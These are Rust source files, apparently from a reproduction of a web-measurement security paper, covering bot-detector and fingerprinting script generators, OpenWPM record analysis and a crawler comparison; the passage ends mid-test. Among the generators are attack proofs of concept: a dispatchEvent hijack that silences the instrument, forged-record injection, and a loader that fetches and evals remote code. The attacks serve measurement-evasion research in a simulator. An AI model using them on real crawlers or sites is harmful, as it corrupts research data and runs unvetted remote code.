            Technique::HoverGated => "navigator.webdriver",
        }
    }
}

/// Build a Selenium/WebDriver detector that reports its verdict to
/// `verdict_url` (query `bot=0|1` is appended).
pub fn selenium_detector(technique: Technique, verdict_url: &str) -> String {
    let expr = technique.webdriver_expr();
    match technique {
        Technique::HoverGated => format!(
            r#"function __bdCheck() {{
  var flag = {expr} === true ? 1 : 0;
  navigator.sendBeacon('{verdict_url}?bot=' + flag);
}}
document.addEventListener('mouseover', function () {{ __bdCheck(); }});
"#
        ),
        _ => format!(
            r#"(function () {{
  var flag = {expr} === true ? 1 : 0;
  navigator.sendBeacon('{verdict_url}?bot=' + flag);
}})();
"#
        ),
    }
}

/// OpenWPM-specific property names probed in the wild (Table 6).
pub const OPENWPM_PROPS: &[&str] =
    &["getInstrumentJS", "instrumentFingerprintingApis", "jsInstruments"];

/// Build an OpenWPM-specific detector probing the given window properties
/// (per-provider mixes from Table 6) plus `toString` tampering.
pub fn openwpm_detector(props: &[&str], technique: Technique, verdict_url: &str) -> String {
    let mut checks = String::new();
    for p in props {
        let access = match technique {
            Technique::Constructed => {
                // Split the name so no static pattern can match it.
                let (a, b) = p.split_at(p.len() / 2);
                format!("window['{a}' + '{b}']")
            }
            _ => format!("window.{p}"),
        };
        checks.push_str(&format!("  if (typeof {access} !== 'undefined') {{ hits++; }}\n"));
    }
    format!(
        r#"(function () {{
  var hits = 0;
{checks}  var ts = '' + document.createElement.toString();
  if (ts.indexOf('[native code]') === -1) {{ hits++; }}
  var flag = hits > 0 ? 1 : 0;
  navigator.sendBeacon('{verdict_url}?bot=' + flag + '&owpm=' + flag);
}})();
"#
    )
}

/// A first-party bot-management detector (Akamai/Incapsula/Cloudflare
/// style): webdriver plus environment checks, verdict posted first-party.
pub fn first_party_detector(verdict_path: &str) -> String {
    format!(
        r#"(function () {{
  var score = 0;
  if (navigator.webdriver === true) {{ score += 10; }}
  if (screen.availTop === 0 && screen.availLeft === 0) {{ score += 2; }}
  if (screen.width === 2560 && screen.height === 1440 && window.outerWidth === 1366) {{ score += 3; }}
  var gl = document.createElement('canvas').getContext('webgl');
  if (gl === null) {{ score += 3; }}
  else {{
    var vendor = '' + gl.getParameter(37445) + ' ' + gl.getParameter(37446);
    if (vendor.indexOf('VMware') !== -1 || vendor.indexOf('llvmpipe') !== -1) {{ score += 3; }}
  }}
  navigator.sendBeacon('{verdict_path}?bot=' + (score >= 3 ? 1 : 0) + '&score=' + score);
}})();
"#
    )
}

/// A generic fingerprinting script: iterates `navigator` and `window`
/// (touching every honey property) and ships the fingerprint. Accesses the
/// fingerprint surface but is *not* a bot detector.
pub fn fingerprint_iterator(report_url: &str) -> String {
    format!(
        r#"(function () {{
  var fp = '';
  for (var k in navigator) {{ fp += k + ':' + navigator[k] + ';'; }}
  var count = 0;
  for (var w in window) {{
    var v = window[w];
    count++;
  }}
  navigator.sendBeacon('{report_url}?len=' + fp.length + '&n=' + count);
}})();
"#
    )
}

/// A benign script that merely *mentions* webdriver in strings/comments —
/// the false-positive class for naive static patterns (Appx. B).
pub fn benign_webdriver_mention() -> String {
    r#"// compatibility shim for selenium-webdriver test harnesses
// docs: the word webdriver below is marketing copy, not a probe
var config = { driverName: 'webdriver-manager', timeout: 30, note: 'works with any webdriver setup' };
function setup(opts) {
  var label = 'uses ' + config.driverName;
  return label;
}
setup(config);
"#
    .to_owned()
}

/// A deep-probe detector exercising the iframe bypass: creates an iframe
/// and reads the fingerprint surface through the *fresh* contentWindow,
/// immediately (paper Listing 3's pattern).
pub fn iframe_probe_detector(verdict_url: &str) -> String {
    format!(
        r#"setTimeout(function () {{
  var element = document.querySelector('#unobserved');
  var iframe = document.createElement('iframe');
  iframe.src = 'unobserved-iframe.html';
  element.appendChild(iframe);
  var wd = iframe.contentWindow.navigator.webdriver;
  var at = iframe.contentWindow.screen.availTop;
  navigator.sendBeacon('{verdict_url}?bot=' + (wd === true ? 1 : 0) + '&via=iframe');
}}, 500);
"#
    )
}

/// The dispatcher-hijack attack of paper Listing 2, adapted to synchronous
/// MiniJS (no Promise): grabs the instrument's random event id, then
/// swallows all instrument messages.
pub fn dispatcher_hijack_attack() -> String {
    r#"(function () {
  var dispatch_fn = document.dispatchEvent;
  var id = null;
  // Step I: retrieve OpenWPM's random ID by intercepting one message.
  document.dispatchEvent = function (event) {
    id = event.type;
    document.dispatchEvent = dispatch_fn;
  };
  navigator.userAgent;
  // Step II: overwrite the event dispatcher to block instrument events.
  if (id !== null) {
    document.dispatchEvent = function (event) {
      if (event.type !== id) { return dispatch_fn.call(document, event); }
      return true; // swallowed
    };
  }
  window.__owpmBlockedId = id;
})();
"#
    .to_owned()
}

/// The fake-data injection attack (Sec. 5.2): after grabbing the event id,
/// forge records attributed to an innocent script.
pub fn fake_data_injection_attack(fake_script_url: &str) -> String {
    format!(
        r#"(function () {{
  var dispatch_fn = document.dispatchEvent;
  var id = null;
  document.dispatchEvent = function (event) {{
    id = event.type;
    document.dispatchEvent = dispatch_fn;
  }};
  navigator.userAgent;
  if (id !== null) {{
    var fake = new CustomEvent(id, {{ detail: {{
      symbol: 'window.navigator.injectedFakeSymbol',
      operation: 'get',
      value: 'forged',
      callContext: 'innocent@{fake_script_url}:1'
    }} }});
    document.dispatchEvent(fake);
  }}
}})();
"#
    )
}

/// Silent JavaScript delivery (paper Listing 4 / Appx. D).
pub fn silent_delivery_loader(payload_url: &str) -> String {
    format!(
        r#"var stealth_code = '{payload_url}';
fetch(stealth_code)
  .then(function (res) {{ return res.text(); }})
  .then(function (res) {{ eval(res); }});
"#
    )
}

/// A canvas-fingerprinting script (render-hash collection): accesses the
/// canvas APIs OpenWPM instruments but draws no bot verdict — another
/// benign-but-surface-touching class, like the iterator.
pub fn canvas_fingerprinter(report_url: &str) -> String {
    format!(
        r#"(function () {{
  var c = document.createElement('canvas');
  var ctx = c.getContext('2d');
  var hash = '' + c.toDataURL();
  var gl = c.getContext('webgl');
  var vendor = gl === null ? 'none' : ('' + gl.getParameter(37445));
  navigator.sendBeacon('{report_url}?h=' + hash.length + '&v=' + vendor.length);
}})();
"#
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use browser::{FingerprintProfile, Os, Page, RunMode};
    use netsim::{ResourceType, Url};

    fn run_on(profile: FingerprintProfile, src: &str) -> Vec<(String, String)> {
        let mut page =
            Page::new(profile, Url::parse("https://site.test/").unwrap(), None);
        page.run_script((src, "https://bd.test/detect.js")).unwrap();
        page.advance(60_000);
        page.traffic()
            .iter()
            .filter(|r| r.resource_type == ResourceType::Beacon)
            .map(|r| (r.url.path.clone(), r.url.query.clone()))
            .collect()
    }

    fn openwpm_profile() -> FingerprintProfile {
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular)
    }

    #[test]
    fn selenium_detector_flags_openwpm_not_stock() {
        for t in [Technique::Plain, Technique::Indexed, Technique::HexEscaped, Technique::Constructed] {
            let src = selenium_detector(t, "https://bd.test/v");
            let beacons = run_on(openwpm_profile(), &src);
            assert_eq!(beacons, vec![("/v".to_string(), "bot=1".to_string())], "{t:?}");
            let beacons = run_on(FingerprintProfile::stock_firefox(Os::Ubuntu1804), &src);
            assert_eq!(beacons, vec![("/v".to_string(), "bot=0".to_string())], "{t:?}");
        }
    }

    #[test]
    fn hover_gated_detector_never_fires_without_interaction() {
        let src = selenium_detector(Technique::HoverGated, "https://bd.test/v");
        let beacons = run_on(openwpm_profile(), &src);
        assert!(beacons.is_empty());
    }

    #[test]
    fn first_party_detector_scores_openwpm_geometry() {
        let src = first_party_detector("https://site.test/akam/11/pixel");
        let beacons = run_on(openwpm_profile(), &src);
        assert_eq!(beacons.len(), 1);
        assert!(beacons[0].1.starts_with("bot=1"), "query: {}", beacons[0].1);
        let beacons = run_on(FingerprintProfile::stock_firefox(Os::Ubuntu1804), &src);
        assert!(beacons[0].1.starts_with("bot=0"), "query: {}", beacons[0].1);
    }

    #[test]
    fn first_party_detector_flags_headless_and_docker() {
        for mode in [RunMode::Headless, RunMode::Xvfb, RunMode::Docker] {
            let src = first_party_detector("https://site.test/v");
            // Even with webdriver masked, environment gives these away.
            let mut p = FingerprintProfile::openwpm(Os::Ubuntu1804, mode);
            p.webdriver = false;
            let beacons = run_on(p, &src);
            assert!(beacons[0].1.starts_with("bot=1"), "mode {mode:?}: {}", beacons[0].1);
        }
    }

    #[test]
    fn iterator_reports_without_bot_verdict() {
        let src = fingerprint_iterator("https://fp.test/collect");
        let beacons = run_on(openwpm_profile(), &src);
        assert_eq!(beacons.len(), 1);
        assert!(!beacons[0].1.contains("bot="));
    }

    #[test]
    fn canvas_fingerprinter_reports_but_is_not_a_detector() {
        let src = canvas_fingerprinter("https://fp.test/cv");
        let beacons = run_on(openwpm_profile(), &src);
        assert_eq!(beacons.len(), 1);
        assert!(!beacons[0].1.contains("bot="));
        assert!(!crate::static_analysis::analyse(&src).is_detector());
    }

    #[test]
    fn benign_script_runs_clean() {
        let beacons = run_on(openwpm_profile(), &benign_webdriver_mention());
        assert!(beacons.is_empty());
    }

    #[test]
    fn iframe_probe_fires_after_timeout() {
        let src = iframe_probe_detector("https://bd.test/v");
        let beacons = run_on(openwpm_profile(), &src);
        assert_eq!(beacons.len(), 1);
        assert!(beacons[0].1.contains("via=iframe"));
        assert!(beacons[0].1.starts_with("bot=1"));
    }
}
