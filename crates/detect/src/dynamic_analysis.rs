//! Dynamic analysis of recorded JavaScript calls (paper Sec. 4.1).
//!
//! Operates on the OpenWPM record store of a visit: every recorded access
//! to the fingerprint surface marks its originating script as a *potential*
//! detector; honey-property hits separate deliberate probes from blanket
//! property iteration (Sec. 4.1.3); iterator scripts that also probed
//! `navigator.webdriver` are kept as detectors only when static analysis
//! independently flagged them, otherwise they are *inconclusive*.

use std::collections::BTreeMap;

use openwpm::instrument::honey::HONEY_SYMBOL_PREFIX;
use openwpm::RecordStore;

/// Classification of one script after the combined pipeline.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum DynamicClass {
    /// Probed bot-identifying properties deliberately.
    Detector,
    /// Iterator whose fingerprint-surface accesses may be incidental.
    Inconclusive,
    /// Touched no bot-identifying property.
    NotDetector,
}

/// Per-script dynamic observation.
#[derive(Clone, Debug, Default)]
pub struct ScriptObservation {
    pub script_url: String,
    pub accessed_webdriver: bool,
    /// OpenWPM-specific property names probed (`window.getInstrumentJS`…).
    pub openwpm_props: Vec<String>,
    /// Distinct honey properties touched.
    pub honey_hits: usize,
}

impl ScriptObservation {
    /// Iterator heuristic: touched ≥90% of the installed honey properties.
    pub fn is_iterator(&self, honey_total: usize) -> bool {
        honey_total > 0 && self.honey_hits * 10 >= honey_total * 9
    }

    /// Combined classification. `statically_flagged`: did static analysis
    /// independently find this script probing webdriver?
    pub fn classify(&self, honey_total: usize, statically_flagged: bool) -> DynamicClass {
        let touched_surface = self.accessed_webdriver || !self.openwpm_props.is_empty();
        if !touched_surface {
            return DynamicClass::NotDetector;
        }
        if self.is_iterator(honey_total) && !statically_flagged {
            return DynamicClass::Inconclusive;
        }
        DynamicClass::Detector
    }

    pub fn probes_openwpm(&self) -> bool {
        !self.openwpm_props.is_empty()
    }
}

/// Group a visit's JS records by originating script.
pub fn observe(store: &RecordStore) -> Vec<ScriptObservation> {
    let _ph = obs::prof::enter(&obs::prof::DETECT_DYNAMIC);
    let mut by_script: BTreeMap<String, ScriptObservation> = BTreeMap::new();
    for rec in &store.js_calls {
        let obs = by_script.entry(rec.script_url.clone()).or_insert_with(|| {
            ScriptObservation { script_url: rec.script_url.clone(), ..Default::default() }
        });
        if let Some(rest) = rec.symbol.strip_prefix(HONEY_SYMBOL_PREFIX) {
            let _ = rest;
            obs.honey_hits += 1;
        } else if rec.symbol.ends_with(".webdriver") {
            obs.accessed_webdriver = true;
        } else if rec.symbol.starts_with("window.")
            && openwpm::instrument::watch::WATCHED_PROPS
                .iter()
                .any(|p| rec.symbol == format!("window.{p}"))
            && !obs.openwpm_props.contains(&rec.symbol)
        {
            obs.openwpm_props.push(rec.symbol.clone());
        }
    }
    // Honey hits counted above are raw accesses; dedupe per honey name.
    for obs in by_script.values_mut() {
        let mut names: Vec<&str> = store
            .js_calls
            .iter()
            .filter(|r| {
                r.script_url == obs.script_url && r.symbol.starts_with(HONEY_SYMBOL_PREFIX)
            })
            .map(|r| r.symbol.as_str())
            .collect();
        names.sort_unstable();
        names.dedup();
        // Each honey property is installed on both navigator and window;
        // count distinct *names*.
        let mut short: Vec<&str> =
            names.iter().map(|s| s.rsplit('.').next().unwrap_or("")).collect();
        short.sort_unstable();
        short.dedup();
        obs.honey_hits = short.len();
    }
    by_script.into_values().collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::{self, Technique};
    use openwpm::instrument::{honey, watch};
    use openwpm::{Browser, BrowserConfig, VisitSpec};

    /// Run a script under the scanning client and return observations.
    fn scan_script(src: &str, script_url: &str) -> (Vec<ScriptObservation>, usize) {
        let mut b = Browser::new(BrowserConfig::vanilla(77));
        let spec = VisitSpec {
            url: "https://site.test/".into(),
            dwell_override_s: Some(61),
            ..Default::default()
        };
        let (mut page, _stats) = b.open_page(&spec).expect("test URL parses");
        watch::install(&mut page, b.store(), "https://site.test/".into());
        let names = honey::install(&mut page, b.store(), 77, 10);
        let _ = page.run_script((src, script_url));
        page.advance(61_000);
        let store = b.take_store();
        (observe(&store), names.len())
    }

    #[test]
    fn plain_detector_classified_as_detector() {
        let src = corpus::selenium_detector(Technique::Plain, "https://bd.test/v");
        let (obs, honey_total) = scan_script(&src, "https://bd.test/detect.js");
        let d = obs.iter().find(|o| o.script_url == "https://bd.test/detect.js").unwrap();
        assert!(d.accessed_webdriver);
        assert_eq!(d.classify(honey_total, false), DynamicClass::Detector);
    }

    #[test]
    fn constructed_detector_still_caught_dynamically() {
        let src = corpus::selenium_detector(Technique::Constructed, "https://bd.test/v");
        let (obs, honey_total) = scan_script(&src, "https://bd.test/obf.js");
        let d = obs.iter().find(|o| o.script_url == "https://bd.test/obf.js").unwrap();
        assert_eq!(d.classify(honey_total, false), DynamicClass::Detector);
    }

    #[test]
    fn hover_gated_detector_invisible_dynamically() {
        let src = corpus::selenium_detector(Technique::HoverGated, "https://bd.test/v");
        let (obs, _) = scan_script(&src, "https://bd.test/gated.js");
        let gated = obs.iter().find(|o| o.script_url == "https://bd.test/gated.js");
        assert!(gated.map(|o| !o.accessed_webdriver).unwrap_or(true));
    }

    #[test]
    fn iterator_is_inconclusive_unless_statically_flagged() {
        let src = corpus::fingerprint_iterator("https://fp.test/c");
        let (obs, honey_total) = scan_script(&src, "https://fp.test/fp.js");
        let d = obs.iter().find(|o| o.script_url == "https://fp.test/fp.js").unwrap();
        assert!(d.accessed_webdriver, "iterating navigator reads webdriver");
        assert!(d.is_iterator(honey_total), "honey hits: {}", d.honey_hits);
        assert_eq!(d.classify(honey_total, false), DynamicClass::Inconclusive);
        // With static confirmation it stays a detector.
        assert_eq!(d.classify(honey_total, true), DynamicClass::Detector);
    }

    #[test]
    fn openwpm_probe_flagged() {
        let src = corpus::openwpm_detector(
            &["jsInstruments"],
            Technique::Plain,
            "https://cheqzone.com/v",
        );
        let (obs, honey_total) = scan_script(&src, "https://cheqzone.com/d.js");
        let d = obs.iter().find(|o| o.script_url == "https://cheqzone.com/d.js").unwrap();
        assert!(d.probes_openwpm(), "props: {:?}", d.openwpm_props);
        assert_eq!(d.classify(honey_total, false), DynamicClass::Detector);
    }

    #[test]
    fn benign_script_not_a_detector() {
        let src = corpus::benign_webdriver_mention();
        let (obs, honey_total) = scan_script(&src, "https://ok.test/app.js");
        if let Some(d) = obs.iter().find(|o| o.script_url == "https://ok.test/app.js") {
            assert_eq!(d.classify(honey_total, false), DynamicClass::NotDetector);
        }
    }
}
