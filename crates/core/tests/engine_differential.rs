//! Scan-level differential gate: a fixed-seed scan must be byte-identical
//! under the tree-walking oracle and the bytecode VM — per-site records,
//! crawl history, Table 5 and the deterministic telemetry digest. The
//! expression-level property harness lives in `jsengine/tests/differential.rs`;
//! this covers the full pipeline (instrumented host objects, fault
//! supervision, record commit order) on top of it.

use gullible::{obs, Scan, ScanConfig};

fn leg(engine: jsengine::Engine, sites: u32, seed: u64) -> (gullible::ScanReport, u64) {
    obs::reset();
    obs::set_stats(true); // the digest covers the stats counters
    jsengine::cache().clear();
    let mut cfg = ScanConfig::new(sites, seed);
    cfg.workers = 1;
    let report = Scan::new(cfg).engine(engine).run().expect("in-memory scan cannot fail");
    let digest = obs::registry().snapshot().digest();
    (report, digest)
}

#[test]
fn scan_is_byte_identical_across_engines() {
    let (sites, seed) = (150, 42);
    let (tree, tree_digest) = leg(jsengine::Engine::Tree, sites, seed);
    let (vm, vm_digest) = leg(jsengine::Engine::Vm, sites, seed);

    assert_eq!(tree.sites, vm.sites, "per-site records diverged");
    assert_eq!(tree.history, vm.history, "crawl history diverged");
    assert_eq!(tree.table5(), vm.table5(), "Table 5 diverged");
    assert_eq!(
        tree_digest, vm_digest,
        "telemetry digest diverged: {tree_digest:016x} vs {vm_digest:016x}"
    );
}
