//! # gullible — reproduction of "How gullible are web measurement tools?"
//! (CoNEXT '22)
//!
//! The core library ties the substrate crates together into the paper's
//! experiments:
//!
//! * [`mod@surface`] — fingerprint-surface analysis of OpenWPM per OS × run
//!   mode (Sec. 3, Tables 2–4) and the four-strategy detector validator
//!   (Sec. 3.3);
//! * [`attacks`] — the recording attacks of Sec. 5 as proof-of-concepts,
//!   evaluated against both the vanilla and the hardened instrument
//!   (Listings 2–4, RQ5–RQ8);
//! * [`scan`] — the Tranco-100K scan with combined static + dynamic
//!   analysis (Sec. 4, Tables 5–7, 11–12, Figs. 3–5);
//! * [`compare`] — the WPM vs WPM_hide field comparison over three repeated
//!   runs (Sec. 6.3, Tables 8–10, Fig. 6);
//! * [`literature`] — the study-survey and Firefox-lag datasets (Tables 1,
//!   14, 15);
//! * [`report`] — text-table rendering used by the regeneration binaries in
//!   the `bench` crate.
//!
//! ## Quickstart
//!
//! ```
//! use gullible::surface::{surface, validate, ClientKind};
//! use browser::{Os, RunMode};
//!
//! // How recognisable is an OpenWPM client in regular mode?
//! let report = surface(ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Regular);
//! assert!(report.webdriver_true());
//!
//! // And the hardened client?
//! let (identified, _evidence) = validate(ClientKind::Hidden, Os::Ubuntu1804, RunMode::Regular);
//! assert!(!identified);
//! ```

pub mod archive;
pub mod attacks;
pub mod compare;
pub mod literature;
pub mod report;
pub mod scan;
pub mod surface;

pub use obs;

pub use archive::{
    diff_bundles, ArchiveStats, BundleDiff, CommitInfo, ReplayBundle, ReplayStats, SiteDelta,
};
pub use compare::{run_compare, Client, CompareConfig, CompareReport};
#[allow(deprecated)]
pub use scan::{run_scan, run_scan_supervised, run_scan_with_checkpoint};
pub use scan::{
    scan_site_visit, site_visit, Scan, ScanAggregates, ScanConfig, ScanReport, SiteScanRecord,
    SiteVisit, StreamStats, CHECKPOINT_FORMAT_VERSION, STREAM_CHECKPOINT_FILE,
};
pub use surface::{surface, validate, ClientKind, SurfaceReport};
