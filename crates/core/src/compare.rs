//! The WPM vs WPM_hide field comparison (paper Sec. 6.3, Tables 8–10,
//! Fig. 6).
//!
//! Both clients visit every site of the comparison set in three repeated
//! runs (the paper's r1/r2/r3), synchronised per site. Sites react to the
//! verdicts their own detector scripts produce; sites that re-identify a
//! client escalate throttling in later runs. The report reproduces:
//!
//! * Table 8 — HTTP requests by resource type, with per-run Diff columns;
//! * Table 9 — requests matching EasyList / EasyPrivacy;
//! * Table 10 — first-party / third-party / tracking cookies (the tracking
//!   classifier implements the Englehardt/Chen criteria incl.
//!   Ratcliff-Obershelp value dissimilarity across runs);
//! * Fig. 6 — per-API call coverage of WPM relative to WPM_hide.

use std::cell::Cell;
use std::collections::{BTreeMap, HashMap, HashSet};

use netsim::{Cookie, ResourceType};
use openwpm::manager::run_parallel;
use openwpm::{Browser, BrowserConfig};
use stats::{ratcliff_obershelp, wilcoxon_signed_rank, WilcoxonResult};
use webgen::{behaviour, verdict_from_traffic, visit_spec, PageKind, Population};

/// Comparison configuration.
#[derive(Clone, Copy, Debug)]
pub struct CompareConfig {
    pub n_sites: u32,
    pub seed: u64,
    pub runs: u32,
    pub workers: usize,
}

impl CompareConfig {
    pub fn new(n_sites: u32, seed: u64) -> CompareConfig {
        CompareConfig { n_sites, seed, runs: 3, workers: 4 }
    }
}

/// The two clients of the comparison.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Client {
    Wpm,
    WpmHide,
}

impl Client {
    fn tag(&self, seed: u64) -> u64 {
        match self {
            Client::Wpm => seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ 0x1111,
            Client::WpmHide => seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ 0x2222,
        }
    }

    fn config(&self, seed: u64) -> BrowserConfig {
        match self {
            Client::Wpm => BrowserConfig::vanilla(seed),
            Client::WpmHide => BrowserConfig::stealth(seed),
        }
    }
}

/// Summary of one client's visit to one site in one run.
#[derive(Clone, Debug, Default)]
pub struct VisitSummary {
    pub rank: u32,
    pub requests_by_type: BTreeMap<ResourceType, u32>,
    pub easylist_hits: u32,
    pub easyprivacy_hits: u32,
    pub cookies: Vec<Cookie>,
    pub js_symbol_counts: BTreeMap<String, u32>,
    /// Did the site flag this client as a bot this run?
    pub flagged: bool,
    /// Did the vanilla injection get CSP-blocked?
    pub instrument_blocked: bool,
}

/// One client's crawl of one run.
#[derive(Clone, Debug, Default)]
pub struct RunData {
    pub sites: Vec<VisitSummary>,
}

impl RunData {
    pub fn total_requests(&self) -> u64 {
        self.sites
            .iter()
            .map(|s| s.requests_by_type.values().map(|&v| v as u64).sum::<u64>())
            .sum()
    }

    pub fn requests_of(&self, rt: ResourceType) -> u64 {
        self.sites.iter().map(|s| *s.requests_by_type.get(&rt).unwrap_or(&0) as u64).sum()
    }

    pub fn easylist_total(&self) -> u64 {
        self.sites.iter().map(|s| s.easylist_hits as u64).sum()
    }

    pub fn easyprivacy_total(&self) -> u64 {
        self.sites.iter().map(|s| s.easyprivacy_hits as u64).sum()
    }

    pub fn cookies_of(&self, party: netsim::CookieParty) -> u64 {
        self.sites.iter().map(|s| s.cookies.iter().filter(|c| c.party() == party).count() as u64).sum()
    }

    pub fn blocked_sites(&self) -> u32 {
        self.sites.iter().filter(|s| s.instrument_blocked).count() as u32
    }
}

/// Full comparison output: `runs[r] = (wpm, hide)`.
#[derive(Clone, Debug, Default)]
pub struct CompareReport {
    pub compare_set: Vec<u32>,
    pub runs: Vec<(RunData, RunData)>,
}

/// Select the comparison set: detector sites with first-party bot
/// management that re-identify clients (the population's cloaking sites),
/// truncated to the paper's 1,487 scaled to the population size.
pub fn compare_set(pop: &Population) -> Vec<u32> {
    let limit = ((1487u64 * pop.n_sites as u64) / 100_000).max(8) as usize;
    let mut set = Vec::new();
    for rank in 0..pop.n_sites {
        let plan = pop.plan(rank);
        if plan.first_party.is_some() && plan.cloak.reidentifies {
            set.push(rank);
            if set.len() >= limit {
                break;
            }
        }
    }
    set
}

/// Run the comparison.
pub fn run_compare(cfg: CompareConfig) -> CompareReport {
    let _phase = obs::phase("compare.runs");
    let pop = Population::new(cfg.n_sites, cfg.seed);
    let set = compare_set(&pop);
    obs::emit(
        obs::Event::new(0, "compare_start")
            .attr("runs", cfg.runs as u64)
            .attr("compare_set", set.len() as u64),
    );
    let mut report = CompareReport { compare_set: set.clone(), runs: Vec::new() };
    // Per-client re-identification memory: site rank → flagged in any
    // earlier run.
    let mut memory: HashMap<(u32, u32), bool> = HashMap::new(); // (client_id, rank)
    for run in 1..=cfg.runs {
        let mut run_pair: Vec<RunData> = Vec::new();
        for (client_id, client) in [(0u32, Client::Wpm), (1u32, Client::WpmHide)] {
            let tag = client.tag(cfg.seed);
            let mem_snapshot: HashSet<u32> = set
                .iter()
                .copied()
                .filter(|r| memory.get(&(client_id, *r)).copied().unwrap_or(false))
                .collect();
            let seed = cfg.seed;
            let summaries = run_parallel(
                set.clone(),
                cfg.workers,
                |w| Browser::new(client.config(seed ^ (run as u64) << 32 ^ w as u64)),
                move |browser, _idx, rank| {
                    let plan = pop.plan(rank);
                    visit_one(browser, &plan, run, tag, mem_snapshot.contains(&rank))
                },
            );
            obs::add("compare.client_runs", 1);
            obs::add("compare.visits", summaries.len() as u64);
            for s in &summaries {
                if s.flagged {
                    obs::add("compare.flagged", 1);
                    memory.insert((client_id, s.rank), true);
                }
            }
            run_pair.push(RunData { sites: summaries });
        }
        let hide = run_pair.pop().unwrap();
        let wpm = run_pair.pop().unwrap();
        report.runs.push((wpm, hide));
    }
    report
}

/// Visit one site once with one client.
pub fn visit_one(
    browser: &mut Browser,
    plan: &webgen::SitePlan,
    run: u32,
    client_tag: u64,
    flagged_before: bool,
) -> VisitSummary {
    let mut spec = visit_spec(plan, PageKind::Front);
    spec.dwell_override_s = Some(61);
    let flagged = Cell::new(false);
    let stats = browser
        .visit(&spec, |traffic| {
            let f = verdict_from_traffic(traffic);
            flagged.set(f);
            behaviour::site_response(plan, run, client_tag, f, flagged_before)
        })
        .expect("generated plan URLs always parse");
    let store = browser.take_store();
    let easylist = webgen::blocklists::easylist();
    let easyprivacy = webgen::blocklists::easyprivacy();
    let mut summary = VisitSummary {
        rank: plan.rank,
        flagged: flagged.get(),
        instrument_blocked: !stats.instrumented,
        cookies: store.cookies.clone(),
        ..Default::default()
    };
    for req in &store.http_requests {
        *summary.requests_by_type.entry(req.resource_type).or_insert(0) += 1;
        if easylist.matches(req) {
            summary.easylist_hits += 1;
        }
        if easyprivacy.matches(req) {
            summary.easyprivacy_hits += 1;
        }
    }
    for rec in &store.js_calls {
        if rec.symbol.starts_with("honey:") {
            continue;
        }
        *summary.js_symbol_counts.entry(rec.symbol.clone()).or_insert(0) += 1;
    }
    summary
}

// ----------------------------------------------------- tracking classifier

/// The Englehardt et al. / Chen et al. tracking-cookie criteria (Sec. 6.3.3):
/// (1) not a session cookie, (2) value length ≥ 8 (sans quotes), (3) always
/// set, (4) long-living (≥ 3 months), (5) values dissimilar across runs
/// (Ratcliff-Obershelp). With a stateless profile per visit, (3) is
/// satisfied whenever the site served the cookie at all during a run, so
/// the per-run count reduces to criteria (1)(2)(4) plus (5) evaluated over
/// whichever cross-run value pairs exist — exactly why the paper's per-run
/// tracking counts differ between runs.
pub const RATCLIFF_THRESHOLD: f64 = 0.66;

/// Count the tracking cookies in `jars_per_run[run_idx]`.
pub fn tracking_cookies_in_run(jars_per_run: &[&[Cookie]], run_idx: usize) -> u64 {
    let mut count = 0u64;
    for c in jars_per_run[run_idx] {
        // (1), (2), (4)
        if c.is_session() || c.effective_len() < 8 || !c.is_long_living() {
            continue;
        }
        // (5): every observable cross-run pair must be dissimilar — a
        // constant value across runs is a shared token, not a per-client id.
        let mut dissimilar = true;
        for (other_idx, jar) in jars_per_run.iter().enumerate() {
            if other_idx == run_idx {
                continue;
            }
            if let Some(other) = jar.iter().find(|x| x.domain == c.domain && x.name == c.name) {
                if ratcliff_obershelp(&c.value, &other.value) >= RATCLIFF_THRESHOLD {
                    dissimilar = false;
                    break;
                }
            }
        }
        if dissimilar {
            count += 1;
        }
    }
    count
}

impl CompareReport {
    fn client_runs(&self, client: Client) -> Vec<&RunData> {
        self.runs
            .iter()
            .map(|(w, h)| match client {
                Client::Wpm => w,
                Client::WpmHide => h,
            })
            .collect()
    }

    /// Count tracking cookies served to `client` in run `run_idx`
    /// (0-based), classified with the cross-run criteria.
    pub fn tracking_cookies(&self, client: Client, run_idx: usize) -> u64 {
        let runs = self.client_runs(client);
        let mut total = 0u64;
        let nsites = runs[0].sites.len();
        for site_idx in 0..nsites {
            let jars: Vec<&[Cookie]> =
                runs.iter().map(|r| r.sites[site_idx].cookies.as_slice()).collect();
            total += tracking_cookies_in_run(&jars, run_idx);
        }
        total
    }

    /// Per-site paired samples for a metric, for significance testing.
    pub fn paired_samples(
        &self,
        run_idx: usize,
        metric: impl Fn(&VisitSummary) -> f64,
    ) -> (Vec<f64>, Vec<f64>) {
        let (wpm, hide) = &self.runs[run_idx];
        let a = wpm.sites.iter().map(&metric).collect();
        let b = hide.sites.iter().map(&metric).collect();
        (a, b)
    }

    /// Wilcoxon signed-rank over per-site ad/tracker request counts.
    pub fn wilcoxon_trackers(&self, run_idx: usize) -> Option<WilcoxonResult> {
        let (a, b) = self.paired_samples(run_idx, |s| {
            (s.easylist_hits + s.easyprivacy_hits) as f64
        });
        wilcoxon_signed_rank(&a, &b)
    }

    /// Wilcoxon signed-rank over per-site cookie counts.
    pub fn wilcoxon_cookies(&self, run_idx: usize) -> Option<WilcoxonResult> {
        let (a, b) = self.paired_samples(run_idx, |s| s.cookies.len() as f64);
        wilcoxon_signed_rank(&a, &b)
    }

    /// Fig. 6 data: per-symbol `(wpm_calls, hide_calls)` for run `run_idx`.
    pub fn coverage(&self, run_idx: usize) -> BTreeMap<String, (u64, u64)> {
        let (wpm, hide) = &self.runs[run_idx];
        let mut out: BTreeMap<String, (u64, u64)> = BTreeMap::new();
        for s in &wpm.sites {
            for (sym, n) in &s.js_symbol_counts {
                out.entry(sym.clone()).or_default().0 += *n as u64;
            }
        }
        for s in &hide.sites {
            for (sym, n) in &s.js_symbol_counts {
                out.entry(sym.clone()).or_default().1 += *n as u64;
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::CookieParty;

    fn small_compare() -> CompareReport {
        run_compare(CompareConfig { n_sites: 4_000, seed: 21, runs: 3, workers: 4 })
    }

    #[test]
    fn hide_receives_more_content_and_cookies() {
        let report = small_compare();
        assert!(report.compare_set.len() >= 8, "set: {}", report.compare_set.len());
